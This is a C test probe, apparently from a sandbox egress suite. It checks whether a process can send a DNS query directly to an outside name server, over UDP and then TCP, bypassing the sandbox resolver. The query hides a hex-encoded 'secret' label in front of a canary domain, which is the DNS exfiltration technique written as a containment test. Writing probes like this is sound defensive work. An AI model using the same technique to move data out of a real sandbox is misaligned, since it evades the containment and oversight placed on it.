/* SPDX-License-Identifier: MIT */
/*
 * NE-08: past the resolver, straight to a server, by datagram and by TCP.
 *
 * Remedy: own network namespace whose rules know TCP and the name server alone; egress for TCP.
 * See: RFC 7766; ip-rule(8)
 */
#include "out.h"

PROBE("net-dns-direct", "no name server can be asked but the one of the sandbox")
{
	unsigned char q[300];
	struct sockaddr_in sa;
	struct in_addr a;
	char name[100];
	int err;
	OUT_NEED(o, "CANARY_OUT_NAMES");

	sa = out_to(o.address, o.port);
	snprintf(name, sizeof(name), "73656372657432.%s", o.name);
	err = out_ask(&sa, name, 0, &a);
	if (err == 0)
		return probe_allowed("sendto", "the name server outside answered");
	if (err == ETIMEDOUT)
		return probe_unknown(err, "sendto", "sent, and neither an answer nor an error came");
	return out_connect(&sa, q, out_question(q, name), "connect");
}
